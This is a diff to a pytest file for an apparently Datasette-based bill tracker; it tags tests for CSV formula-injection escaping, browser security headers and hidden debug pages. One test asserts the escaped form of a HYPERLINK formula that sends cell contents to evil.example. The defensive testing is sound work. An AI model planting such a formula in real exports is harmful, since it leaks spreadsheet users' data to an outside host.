@@ -368,6 +368,7 @@ def formula_db(tmp_path_factory) -> Path:
 @pytest.mark.parametrize("query", ["/tracker/bills.csv?_col=title&_col=relevance_score",
                                    "/tracker/bills.csv?_col=title&_col=relevance_score&_stream=on&_dl=1",
                                    "/tracker/bills.csv?_col=title&_col=relevance_score&_size=1&_stream=on"])
+@pytest.mark.review("public_face")
 @pytest.mark.parametrize("public", [True, False])
 async def test_csv_cells_a_spreadsheet_would_run_begin_with_a_quote(formula_db, query, public):
     import csv
@@ -384,12 +385,14 @@ async def test_csv_cells_a_spreadsheet_would_run_begin_with_a_quote(formula_db, 
     assert all(float(row["relevance_score"]) >= 0 for row in rows.values())
 
 
+@pytest.mark.review("public_face")
 async def test_a_query_csv_is_neutralised_too(formula_db):
     response = await make_datasette(formula_db, public=False).client.get(
         "/tracker.csv?sql=select+title,+-1+as+minus_one+from+bills+where+id='ny-2025-s8420'")
     assert response.text.splitlines()[1] == '"\'=HYPERLINK(""http://evil.example/?""&A1,""Details"")",-1'
 
 
+@pytest.mark.review("public_face")
 @pytest.mark.parametrize("public", [True, False])
 async def test_every_response_says_how_a_browser_may_use_it(site_snapshot, public):
     ds = make_datasette(site_snapshot, public=public)
@@ -405,6 +408,7 @@ async def test_every_response_says_how_a_browser_may_use_it(site_snapshot, publi
         assert headers.get_list("referrer-policy") in (["no-referrer"], ["strict-origin-when-cross-origin"]), path
 
 
+@pytest.mark.review("public_face")
 async def test_public_face_shows_no_file_paths_threads_or_debug_pages(site_snapshot):
     ds = make_datasette(site_snapshot, public=True)
     for path in ("/-/databases.json", "/-/databases", "/-/threads.json", "/-/threads", "/-/password-tool",
